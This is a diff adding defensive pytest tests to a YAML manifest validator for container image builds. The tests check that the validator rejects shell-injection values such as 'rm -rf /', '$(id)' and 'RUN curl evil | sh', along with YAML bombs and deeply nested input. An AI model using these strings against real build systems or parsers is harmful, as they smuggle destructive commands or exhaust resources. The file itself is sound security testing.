@@ -201,3 +201,215 @@ def test_json_schema_covers_the_manifest(tmp_path: Path) -> None:
 def test_committed_schema_is_current() -> None:
     committed = Path(__file__).resolve().parents[2] / "docs" / "smbyo.schema.json"
     assert json.loads(committed.read_text()) == json_schema(), "run `smbyo schema -o docs/smbyo.schema.json`"
+
+
+# --- hostile values: refused with the field and its line --------------------------------------------------
+
+INJECTIONS = [
+    # (the YAML line replacing `  requirements: requirements.txt`, the field, a fragment of the message)
+    ("  system_packages: [curl, 'x; rm -rf /']", "image.system_packages[1]", "is not a Debian package name"),
+    ("  system_packages: ['$(id)']", "image.system_packages[0]", "is not a Debian package name"),
+    ("  system_packages: ['`id`']", "image.system_packages[0]", "is not a Debian package name"),
+    ("  system_packages: ['curl && id']", "image.system_packages[0]", "is not a Debian package name"),
+    ("  system_packages: ['curl \"x\"']", "image.system_packages[0]", "is not a Debian package name"),
+    ('  system_packages: ["curl\\nRUN id"]', "image.system_packages[0]", "is not a Debian package name"),
+    ("  system_packages: ['-o', 'APT::Foo=1']", "image.system_packages[0]", "is not a Debian package name"),
+    ("  system_packages: [Curl]", "image.system_packages[0]", "is not a Debian package name"),
+    ("  system_packages: ['curl=1.0;id']", "image.system_packages[0]", "is not a Debian package name"),
+    ("  build_packages: [gcc, '${HOME}']", "image.build_packages[1]", "is not a Debian package name"),
+    ("  build_packages: ['a b']", "image.build_packages[0]", "is not a Debian package name"),
+]
+
+
+@pytest.mark.parametrize(("line", "field", "message"), INJECTIONS, ids=[i[0].strip() for i in INJECTIONS])
+def test_package_lists_refuse_anything_but_package_names(project: Path, line: str, field: str, message: str) -> None:
+    text = (project / "smbyo.yaml").read_text().replace("  requirements: requirements.txt", line)
+    path = write(project, text + "  requirements: requirements.txt\n".replace("  ", "", 0))
+    found = [p for p in problems(path) if f" {field}: " in p]
+    assert found and message in found[0], problems(path)
+    assert found[0].startswith(f"{path}:{line_of(path, line.split(':')[0].strip() + ':')} ")
+
+
+@pytest.mark.parametrize(
+    "base",
+    [
+        '"python:3.12\\nRUN curl evil | sh"',
+        '"python:3.12 AS evil"',
+        "'$(id)'",
+        "'${BASE}'",
+        "'python:3.12;id'",
+        "'Python:3.12'",
+        "'python:'",
+        "'-python'",
+        "''",
+        "'" + "a" * 256 + "'",
+    ],
+)
+def test_a_base_image_that_is_no_image_reference_is_refused(project: Path, base: str) -> None:
+    text = (project / "smbyo.yaml").read_text().replace("  base: python:3.12-slim-bookworm", f"  base: {base}")
+    path = write(project, text)
+    (message,) = problems(path)
+    assert message.startswith(f"{path}:{line_of(path, '  base:')} image.base: ")
+    assert "Docker image reference" in message or "at most 255" in message
+
+
+@pytest.mark.parametrize(
+    "base",
+    [
+        "python:3.12-slim-bookworm",
+        "debian",
+        "localhost:5000/team/base:1.0",
+        "123456789012.dkr.ecr.us-east-1.amazonaws.com/base:v1",
+        "ubuntu:24.04@sha256:" + "a" * 64,
+        "registry.example.com/a__b/c-d.e:tag_1",
+    ],
+)
+def test_image_references_docker_accepts_are_accepted(project: Path, base: str) -> None:
+    text = (project / "smbyo.yaml").read_text().replace("  base: python:3.12-slim-bookworm", f"  base: {base}")
+    assert load_manifest(write(project, text)).manifest.image.base == base
+
+
+@pytest.mark.parametrize(
+    ("description", "fragment"),
+    [
+        ('"two\\nlines"', "character 4 is '\\n'"),
+        ("|\n  block scalars keep\n  their newlines", "is '\\n'"),
+        ('"tab\\there"', "is '\\t'"),
+        ('"nul\\0"', "is '\\x00'"),
+        ('"escape \\e[31m"', "is '\\x1b'"),
+        ("'" + "x" * 1025 + "'", "is 1025 characters; AWS takes at most 1024"),
+    ],
+)
+def test_descriptions_aws_would_refuse_are_refused(project: Path, description: str, fragment: str) -> None:
+    old = "description: Decision trees using scikit-learn (Iris CSV, label in column 0)"
+    path = write(project, (project / "smbyo.yaml").read_text().replace(old, f"description: {description}"))
+    (message,) = problems(path)
+    assert message.startswith(f"{path}:{line_of(path, 'description:')} description: ") and fragment in message
+
+
+def test_a_description_with_quotes_dollars_and_backslashes_is_valid(project: Path) -> None:
+    old = "description: Decision trees using scikit-learn (Iris CSV, label in column 0)"
+    description = "a \\\" ${HOME} $(id) `id` ' && echo; # RUN id \\ ünïcödé 🚀"
+    path = write(
+        project,
+        (project / "smbyo.yaml")
+        .read_text()
+        .replace(old, f"description: {json.dumps(description, ensure_ascii=False)}"),
+    )
+    assert load_manifest(path).manifest.description == description
+
+
+@pytest.mark.parametrize("name", [".", ".."])
+def test_channel_names_that_are_path_components_are_refused(project: Path, name: str) -> None:
+    path = edit(project, lambda d: d["training"]["channels"][0].update(name=name))
+    (message,) = problems(path)
+    assert f"training.channels[0].name: '{name}' cannot name a channel" in message
+    assert f":{line_of(path, '- name:')} " in message
+
+
+def test_a_channel_name_of_three_dots_is_just_a_name(project: Path) -> None:
+    path = edit(project, lambda d: d["training"]["channels"][0].update(name="..."))
+    assert load_manifest(path, check_files=False).manifest.training.channels[0].name == "..."  # type: ignore[union-attr]
+
+
+# --- hostile YAML: bombs, depth, cycles, unreadable values -----------------------------------------------------
+
+BILLION_LAUGHS = (
+    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
+    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
+    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
+    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
+    "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("text", "line", "fragment"),
+    [
+        (BILLION_LAUGHS, 6, "refused: the YAML expands to 597,871 values through aliases"),
+        ("name: x\ntags: " + BILLION_LAUGHS.replace("\n", ", ").join("{}"), 2, "refused: the YAML expands"),
+        ("name: x\ntags: " + "[" * 100_000 + "]" * 100_000 + "\n", 2, "is nested more than 32 levels deep"),
+        ("name: x\n" + "".join("  " * i + f"k{i}:\n" for i in range(40)), 33, "is nested more than 32 levels deep"),
+        ("name: x\ntags: &a {x: *a}\n", 2, "has an alias inside the value it refers to"),
+        ("name: x\ntags: &a [[*a]]\n", 2, "has an alias inside the value it refers to"),
+        ("name: x\na: &a 1\nl: [" + ", ".join(["*a"] * 101) + "]\n", 3, "has more than 100 aliases"),
+        ("name: x\nserving:\n  timeout_seconds: " + "9" * 5000 + "\n", 3, "too many digits"),
+        ("name: x\ntraining:\n  hyperparameters:\n    - {name: a, type: FreeText, default: 2024-13-45}\n", 4, "month"),
+        ("name: x\ndescription: a\x00b\n", 2, "the character '\\x00' is not allowed in YAML"),
+        ("name: x\n---\nname: y\n", 2, "not valid YAML: but found another document"),
+        ("name: x\nl: *nowhere\n", 2, "not valid YAML: found undefined alias"),
+        ("name: x\ntags: {? [a, b] : c}\n", 2, "not valid YAML: found unhashable key"),
+    ],
+    ids=[
+        "billion laughs",
+        "laughs in a field",
+        "deep flow",
+        "deep block",
+        "cycle",
+        "cycle in a list",
+        "aliases",
+        "digits",
+        "timestamp",
+        "NUL",
+        "two documents",
+        "undefined alias",
+        "list as a key",
+    ],
+)
+def test_hostile_yaml_is_refused_with_its_line(project: Path, text: str, line: int, fragment: str) -> None:
+    path = write(project, text)
+    (message,) = problems(path)
+    assert message.startswith(f"{path}:{line}: "), message
+    assert fragment in message
+
+
+def test_the_yaml_bomb_exits_2_from_the_cli_with_no_traceback(project: Path) -> None:
+    result = run_cli("render", "-f", str(write(project, BILLION_LAUGHS)))
+    assert result.returncode == 2
+    assert "refused: the YAML expands" in result.stderr and "Traceback" not in result.stderr
+
+
+def test_deep_nesting_exits_2_not_as_a_bug(project: Path) -> None:
+    result = run_cli("--json", "render", "-f", str(write(project, "name: x\ntags: " + "[" * 50_000 + "\n")))
+    assert result.returncode == 2
+    assert json.loads(result.stdout)["error"] == "ManifestError"
+
+
+def test_anchors_aliases_and_merge_keys_used_as_intended_still_work(project: Path) -> None:
+    text = (project / "smbyo.yaml").read_text()
+    text = text.replace(
+        "  transform_instance_types: [ml.m5.large, ml.c5.xlarge]", "  transform_instance_types: &t [ml.m5.large]"
+    )
+    text = text.replace("  realtime_instance_types: [ml.m5.large, ml.c5.xlarge]", "  realtime_instance_types: *t")
+    text = text.replace(
+        "    - name: max_leaf_nodes\n      type: Integer\n",
+        "    - &integer {name: depth, type: Integer, min: 1, max: 10, tunable: true}\n"
+        "    - <<: *integer\n      name: max_leaf_nodes\n      type: Integer\n",
+    )
+    loaded = load_manifest(write(project, text))
+    assert loaded.manifest.inference.realtime_instance_types == ["ml.m5.large"]
+    training = loaded.manifest.training
+    assert training is not None
+    assert [h.name for h in training.hyperparameters] == ["depth", "max_leaf_nodes"]
+    assert training.hyperparameters[1].tunable and training.hyperparameters[1].max == 100000
+    assert loaded.line_of(("inference", "realtime_instance_types")) == line_of(
+        project / "smbyo.yaml", "realtime_instance_types"
+    )
+
+
+def test_a_manifest_that_is_not_utf8_names_the_line(project: Path) -> None:
+    path = project / "smbyo.yaml"
+    path.write_bytes(b"name: x\ndescription: caf\xe9\n")
+    (message,) = problems(path)
+    assert message == f"{path}:2: not UTF-8 text (byte 24 is 0xe9)"
+
+
+def test_a_directory_as_the_manifest_is_a_manifest_error(project: Path) -> None:
+    (message,) = problems(project)
+    assert message == f"{project}: is a directory, not a manifest file"
+
+
+def test_a_long_value_is_shown_cut_short(project: Path) -> None:
+    text = (project / "smbyo.yaml").read_text().replace("  timeout_seconds: 60", "  timeout_seconds: " + "x" * 5000)
+    (message,) = problems(write(project, text))
+    assert "(5,002 characters))" in message and len(message) < 400
